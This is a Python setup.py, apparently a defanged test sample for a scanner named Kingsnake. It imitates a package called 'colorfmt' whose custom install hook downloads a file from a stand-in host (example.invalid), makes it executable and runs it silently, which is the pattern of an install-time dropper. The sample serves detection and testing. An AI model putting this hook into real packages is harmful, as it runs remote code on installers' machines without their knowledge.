# Sample package for Kingsnake (DEFANGED): imitates an install-time download-and-run.
# The host is under example.invalid, which never resolves; there is no payload anywhere.
import os
import subprocess
import tempfile
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        target = os.path.join(tempfile.gettempdir(), "colorfmt-update")
        urllib.request.urlretrieve("http://example.invalid/update.bin", target)
        os.chmod(target, 0o755)
        subprocess.Popen([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


setup(
    name="colorfmt",
    version="0.3.1",
    description="Colour formatting for terminals",
    packages=["colorfmt"],
    cmdclass={"install": PostInstall},
)
